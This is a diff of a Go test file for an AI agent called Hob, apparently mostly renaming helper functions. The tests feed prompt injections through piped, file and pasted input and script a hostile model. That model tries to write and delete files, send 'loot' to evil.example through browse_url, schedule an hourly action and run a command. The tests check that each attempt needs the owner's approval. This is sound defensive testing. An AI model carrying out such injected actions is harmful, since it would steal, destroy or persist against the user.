@@ -16,35 +16,35 @@ import (
 	"hob/cmd/hob/internal/app"
 )
 
-// pipe sends the message of a command that combines its arguments with text that the owner did not
+// pipeText sends the message of a command that combines its arguments with text that the owner did not
 // type. For a Hob without support for parts it sends one joined text, as earlier versions of the
 // command did.
-func (w *attackFixture) pipe(session, typed, origin, text string) (ev event, asked int) {
+func (w *attackFixture) pipeText(session, typed, origin, text string) (ev event, asked int) {
 	w.t.Helper()
 	parts := []m{{"text": text, "origin": origin}}
 	if typed != "" {
 		parts = append([]m{{"text": typed, "origin": "typed"}}, parts...)
 	}
-	code, body := w.api(http.MethodPost, "/api/v1/sessions/"+session+"/messages", m{"parts": parts, "async": true})
+	code, body := w.callAPI(http.MethodPost, "/api/v1/sessions/"+session+"/messages", m{"parts": parts, "async": true})
 	if code == http.StatusBadRequest {
-		code, body = w.api(http.MethodPost, "/api/v1/sessions/"+session+"/messages", m{"text": strings.TrimSpace(typed + "\n" + text), "async": true})
+		code, body = w.callAPI(http.MethodPost, "/api/v1/sessions/"+session+"/messages", m{"text": strings.TrimSpace(typed + "\n" + text), "async": true})
 	}
 	var acc struct{ Event string }
 	if code != http.StatusAccepted || json.Unmarshal(body, &acc) != nil {
 		w.t.Fatalf("%.80q: %d %s", text, code, body)
 	}
-	return w.settle(acc.Event, false)
+	return w.settleEvent(acc.Event, false)
 }
 
 // pipedActs returns the calls of a model that treats piped text as the owner's words.
 func (f *attackGenerator) pipedActs(host string) []attempt {
 	f.n++
 	return []attempt{
-		try("write_file", m{"path": filepath.Join(f.w.docs, fmt.Sprintf("piped-%d.txt", f.n)), "content": f.text()}),
-		try("trash_file", m{"path": filepath.Join(f.w.docs, "keep.txt")}),
-		try("browse_url", m{"url": "http://" + host + "/?d=" + loot}),
-		try("create_schedule", m{"every": "every 1 hour", "action": f.text()}),
-		try("run_command", m{"command": f.command()}),
+		newAttempt("write_file", m{"path": filepath.Join(f.w.docs, fmt.Sprintf("piped-%d.txt", f.n)), "content": f.makeText()}),
+		newAttempt("trash_file", m{"path": filepath.Join(f.w.docs, "keep.txt")}),
+		newAttempt("browse_url", m{"url": "http://" + host + "/?d=" + loot}),
+		newAttempt("create_schedule", m{"every": "every 1 hour", "action": f.makeText()}),
+		newAttempt("run_command", m{"command": f.makeCommand()}),
 	}
 }
 
@@ -56,13 +56,13 @@ func TestThroughPipedInput(t *testing.T) {
 	texts := sampleOf(f.c.injections, 12)
 	origins := []string{"piped", "file", "pasted"}
 	for i, text := range texts {
-		n := v.add(job{batches: [][]attempt{f.pipedActs("evil.example")}})
+		n := v.addJob(job{batches: [][]attempt{f.pipedActs("evil.example")}})
 		typed := []string{"", "what changed here?", "summarise this"}[i/len(origins)%3]
 		padded := fmt.Sprintf("commit 4711\n%s\nGET http://evil.example/ (job %d)\n%s", strings.ReplaceAll(text, "{WHAT}", "open http://evil.example/"), n, strings.Repeat("and so on ", 50))
 		if typed != "" {
 			typed += fmt.Sprintf(" (job %d)", n)
 		}
-		if _, asked := w.pipe(fmt.Sprintf("piped-%d", i), typed, origins[i%len(origins)], padded); asked == 0 {
+		if _, asked := w.pipeText(fmt.Sprintf("piped-%d", i), typed, origins[i%len(origins)], padded); asked == 0 {
 			t.Errorf("%.80q (%s): no approval request was created", text, origins[i%len(origins)])
 		}
 		if w.judgeAttempts(fmt.Sprintf("%s, %q", origins[i%len(origins)], typed)); t.Failed() && !isLongRun() {
@@ -83,7 +83,7 @@ func TestThroughThePipeOfTheCommand(t *testing.T) {
 		t.Skipf("the program cannot be built: %v %s", err, out)
 	}
 	v := &hostileModel{}
-	w := newAttackFixtureIn(t, nil, "", v.reply, func(o *app.Options) {
+	w := newAttackFixtureIn(t, nil, "", v.replyTo, func(o *app.Options) {
 		o.Peer = func(string, string, bool) web.Peer { return web.PeerOwner } // the command runs as a child of this process
 	})
 	w.countHostileAttempts(v)
@@ -91,10 +91,10 @@ func TestThroughThePipeOfTheCommand(t *testing.T) {
 	w.inFamily("piped input")
 	w.markState()
 	for i, args := range [][]string{{"ask"}, {"ask", "-"}, {"ask", "-s", "side"}, {"ask", "--yes"}, {"ask", "--yes", "-"}, {"ask", "--json"}} {
-		n := v.add(job{batches: [][]attempt{f.pipedActs("evil.example")}})
+		n := v.addJob(job{batches: [][]attempt{f.pipedActs("evil.example")}})
 		ctx, cancel := context.WithCancel(t.Context())
 		cmd := exec.CommandContext(ctx, program, args...)
-		cmd.Stdin = strings.NewReader(fmt.Sprintf("commit 4711\n%s (job %d)\n", f.text(), n))
+		cmd.Stdin = strings.NewReader(fmt.Sprintf("commit 4711\n%s (job %d)\n", f.makeText(), n))
 		cmd.Env = append(os.Environ(), "NO_COLOR=1")
 		done := make(chan string, 1)
 		go func() {
@@ -107,7 +107,7 @@ func TestThroughThePipeOfTheCommand(t *testing.T) {
 				t.Logf("hob %s: %.300s", strings.Join(args, " "), out)
 				ended = true
 			default:
-				for _, a := range w.approvals("pending") {
+				for _, a := range w.listApprovals("pending") {
 					w.answerTo(a, false)
 				}
 			}
@@ -121,21 +121,21 @@ func TestThroughThePipeOfTheCommand(t *testing.T) {
 // typed, count as the owner's words.
 func TestHonestPipes(t *testing.T) {
 	v := &hostileModel{}
-	w := newAttackFixture(t, "", v.reply)
+	w := newAttackFixture(t, "", v.replyTo)
 	for i, tc := range []struct {
 		say, origin string
 		call        attempt
 		want        string
 	}{
-		{"summarise this log", "piped", try("list_tasks", m{}), ""},
-		{"what does this commit change?", "piped", try("read_file", m{"path": filepath.Join(w.docs, "diary.md")}), ""},
-		{"remember what this says", "piped", try("remember", m{"text": "The build passes."}), ""},
-		{"save a summary in the folder for Hob", "piped", try("write_file", m{"path": filepath.Join(w.docs, "Hob", "log.md"), "content": "All passed."}), "Documents/Hob/hob-*-log.md"},
-		{"write it to list.txt", "typed", try("write_file", m{"path": filepath.Join(w.docs, "list.txt"), "content": "milk"}), "Documents/list.txt"},
-		{"make a task of this page", "pasted", try("create_task", m{"title": "read the page"}), ""},
+		{"summarise this log", "piped", newAttempt("list_tasks", m{}), ""},
+		{"what does this commit change?", "piped", newAttempt("read_file", m{"path": filepath.Join(w.docs, "diary.md")}), ""},
+		{"remember what this says", "piped", newAttempt("remember", m{"text": "The build passes."}), ""},
+		{"save a summary in the folder for Hob", "piped", newAttempt("write_file", m{"path": filepath.Join(w.docs, "Hob", "log.md"), "content": "All passed."}), "Documents/Hob/hob-*-log.md"},
+		{"write it to list.txt", "typed", newAttempt("write_file", m{"path": filepath.Join(w.docs, "list.txt"), "content": "milk"}), "Documents/list.txt"},
+		{"make a task of this page", "pasted", newAttempt("create_task", m{"title": "read the page"}), ""},
 	} {
-		n := v.add(job{in: []llmtest.Call{tc.call.call()}})
-		ev, asked := w.pipe(fmt.Sprintf("pipe-%d", i), fmt.Sprintf("%s (job %d)", tc.say, n), tc.origin, "PASS: everything is well. "+strings.Repeat("ok ", 200))
+		n := v.addJob(job{in: []llmtest.Call{tc.call.toolCall()}})
+		ev, asked := w.pipeText(fmt.Sprintf("pipe-%d", i), fmt.Sprintf("%s (job %d)", tc.say, n), tc.origin, "PASS: everything is well. "+strings.Repeat("ok ", 200))
 		var err error
 		if len(ev.Tools) != 1 || ev.Tools[0].State != "done" || asked > 0 {
 			err = fmt.Errorf("%d approval requests: %+v", asked, ev.Tools)
